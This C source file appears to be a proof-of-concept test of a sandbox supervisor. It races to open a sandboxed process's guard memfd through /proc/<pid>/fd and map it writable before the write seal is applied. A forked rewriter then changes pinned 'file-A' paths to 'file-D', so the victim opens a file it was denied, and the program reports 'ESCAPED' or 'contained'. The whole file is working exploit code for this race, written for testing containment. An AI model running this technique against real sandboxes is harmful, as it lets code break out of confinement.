// SPDX-License-Identifier: LGPL-2.1-or-later
/* Route: the guard's memfd sits in the new image's fd table between the
 * injected memfd_create and the supervisor's F_ADD_SEALS.  A sibling process
 * of the sandbox (same uid) opens /proc/<pid>/fd/N O_RDWR and maps it
 * MAP_SHARED|PROT_WRITE in that window: F_SEAL_FUTURE_WRITE does not revoke
 * mappings made before it, so the sibling keeps write access to the guard and
 * rewrites a pinned path after the check.  */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define GSIZE (4u << 20)
static const char *dir;

static int victim(void)
{
	char a[512], d[512];
	struct stat sd, st;
	char c;
	snprintf(a, sizeof a, "%s/file-A", dir);
	snprintf(d, sizeof d, "%s/file-D", dir);
	if (read(10, &c, 1) != 1)	/* first syscall: guard injected here */
		return 3;
	if (stat(d, &sd) < 0)
		return 4;
	int opened_d = 0, denied = 0;
	for (int i = 0; i < 200000; i++) {
		int fd = openat(AT_FDCWD, a, O_RDONLY);
		if (fd < 0) { denied++; continue; }
		if (fstat(fd, &st) == 0 && st.st_ino == sd.st_ino) opened_d++;
		close(fd);
	}
	int fd = openat(AT_FDCWD, d, O_RDONLY);
	printf("victim: direct open of file-D: %s\n", fd < 0 ? strerror(errno) : "OPENED");
	printf("victim: opened file-D through file-A %d times (%d refused)\n", opened_d, denied);
	return opened_d ? 42 : 0;
}

int main(int argc, char **argv)
{
	dir = getenv("RT_DIR") ? getenv("RT_DIR") : "/tmp/rt";
	if (argc > 1 && !strcmp(argv[1], "victim"))
		return victim();
	printf("tried: map the guard memfd writable via /proc/<pid>/fd before its seal\n");
	for (int round = 0; round < 2000; round++) {
		int p[2];
		if (pipe(p) < 0) return 1;
		pid_t c = fork();
		if (c == 0) {
			dup2(p[0], 10);
			for (int f = 3; f < 10; f++) close(f);
			close(p[1]);
			execl("/proc/self/exe", argv[0], "victim", (char *)NULL);
			_exit(127);
		}
		close(p[0]);
		char path[64];
		char *w = MAP_FAILED;
		for (long spin = 0; spin < 200000 && w == MAP_FAILED; spin++) {
			for (int n = 3; n < 5 && w == MAP_FAILED; n++) {
				snprintf(path, sizeof path, "/proc/%d/fd/%d", c, n);
				int fd = syscall(SYS_open, path, O_RDWR);
				if (fd < 0) continue;
				w = mmap(NULL, GSIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
				if (w == MAP_FAILED) {
					close(fd);
					/* sealed already: this round is lost */
					spin = 1L << 40;
					break;
				}
				close(fd);
			}
		}
		if (w == MAP_FAILED) {
			kill(c, SIGKILL);
			waitpid(c, NULL, 0);
			close(p[1]);
			continue;
		}
		printf("round %d: writable mapping of the guard memfd of pid %d obtained\n", round, c);
		/* rewriter: turn every pinned ".../file-A" into ".../file-D" */
		pid_t r = fork();
		if (r == 0) {
			for (;;) {
				for (size_t off = 0; off < 64 * 4096; off += 4096) {
					volatile char *s = w + off;
					if (!s[0]) continue;
					char *q = memmem((char *)s, 512, "/file-A", 7);
					if (q) q[6] = 'D';
				}
			}
		}
		(void)!write(p[1], "g", 1);
		int st;
		waitpid(c, &st, 0);
		kill(r, SIGKILL);
		waitpid(r, NULL, 0);
		int esc = WIFEXITED(st) && WEXITSTATUS(st) == 42;
		printf("result: round %d, victim status %d\n", round, WIFEXITED(st) ? WEXITSTATUS(st) : -1);
		printf("verdict: %s\n", esc ? "ESCAPED" : "contained");
		return esc;
	}
	printf("result: never won the window in 2000 rounds\nverdict: contained\n");
	return 0;
}
